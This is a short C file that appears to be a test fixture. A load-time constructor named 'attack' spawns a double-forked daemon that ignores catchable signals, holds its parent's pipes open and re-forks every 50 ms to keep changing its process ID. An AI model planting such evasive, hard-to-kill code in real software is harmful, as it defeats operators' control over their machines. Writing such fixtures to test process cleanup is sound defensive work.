/* Leaves a daemon behind: twice forked, in a session of its own, deaf to every
 * signal that can be ignored, its parent's pipes still open. It starts itself
 * again now and then, so that it never has the same number for long. */

#include <signal.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>

static void
live_on(void)
{
    const struct timespec pause = {.tv_nsec = 50000000};

    for (int number = 1; number < 32; number++)
        (void)signal(number, SIG_IGN);
    for (;;) {
        (void)setsid();
        (void)nanosleep(&pause, NULL);
        if (fork() > 0)
            _exit(0);
    }
}

__attribute__((constructor)) static void
attack(void)
{
    if (fork() == 0) {
        (void)setsid();
        if (fork() == 0)
            live_on();
        _exit(0);
    }
}
